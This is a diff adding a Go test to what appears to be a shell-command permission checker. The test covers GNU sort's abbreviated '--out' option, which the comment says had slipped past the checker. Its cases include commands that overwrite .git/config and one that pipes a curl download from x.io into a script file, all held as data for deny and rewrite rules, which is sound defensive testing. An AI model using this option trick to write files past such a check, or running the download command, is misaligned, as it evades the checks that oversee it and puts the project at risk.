@@ -72,3 +72,35 @@ func TestSplitPieceNamesOracle(t *testing.T) {
 		}
 	}
 }
+
+// TestSortOutputAbbrev: GNU sort takes any unambiguous prefix of a long
+// option, so sort --out=F and --outp F are --output F (the real sort
+// writes F). They passed; a download piped into sort --out=F was left
+// in the project.
+func TestSortOutputAbbrev(t *testing.T) {
+	t.Parallel()
+	cfg := scratchProject(t, map[string]string{"proj/x": "b\na\n"})
+	checkDecisions(t, cfg, []struct{ cmd, want string }{
+		{"sort --out=.git/config x", "deny"},
+		{"sort --outp .git/config x", "deny"},
+		{"sort --output=.git/config x", "deny"},
+		{"curl -s https://x.io/a | sort --out=x.sh", "rewrite"},
+		// Look-alikes.
+		{"sort --rev --uniq x", "allow"},
+		{"sort --out=out.txt x", "allow"},
+		{"sort -o out.txt x", "allow"},
+	})
+	if _, err := exec.LookPath("sort"); err != nil {
+		return
+	}
+	dir := t.TempDir()
+	cmd := exec.Command("sort", "--out=o", "-")
+	cmd.Dir = dir
+	cmd.Stdin = strings.NewReader("b\na\n")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Skipf("sort --out: %v %s", err, out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "o")); string(b) != "a\nb\n" {
+		t.Errorf("sort --out=o wrote %q", b)
+	}
+}
